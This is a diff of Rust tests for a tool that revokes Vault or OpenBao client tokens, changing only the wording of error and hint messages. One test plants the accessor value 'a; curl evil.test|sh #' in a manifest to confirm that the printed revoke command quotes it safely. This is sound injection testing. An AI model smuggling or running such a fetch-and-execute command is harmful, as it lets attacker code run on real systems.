@@ -41,11 +41,11 @@ fn a_name_that_a_shell_would_run_is_not_kept() {
     output.exits(0);
     let output = job(&["clean"]).within(output.scratch).word(&server.url().replace("http://", ""), "HOST").run();
     output.exits(4).stderr_is(expect![[r#"
-        error: Vault refused to end the client token
+        error: Vault refused to revoke the client token
           said       403 1 error occurred: * permission denied
           asked for  the end of the client token at http://HOST
 
-        hint: the default policy lets a token end itself: see token_no_default_policy on the role
+        hint: Vault's default policy lets a token end itself: check token_no_default_policy on the role
     "#]]);
 }
 
@@ -63,11 +63,11 @@ fn a_name_in_the_manifest_is_one_word() {
     fs::write(&manifest, text.replace(":\"accessor\"", &format!(":\"{EVIL}\""))).unwrap();
     let output = job(&["clean"]).within(output.scratch).word(&server.url().replace("http://", ""), "HOST").run();
     output.exits(4).stderr_is(expect![[r#"
-        error: Vault refused to end the client token
+        error: Vault refused to revoke the client token
           said       403 1 error occurred: * permission denied
           asked for  the end of accessor a; curl evil.test|sh # at http://HOST
 
         hint: an administrator ends it now: bao token revoke -accessor 'a; curl evil.test|sh #'
-        hint: the default policy lets a token end itself: see token_no_default_policy on the role
+        hint: Vault's default policy lets a token end itself: check token_no_default_policy on the role
     "#]]);
 }
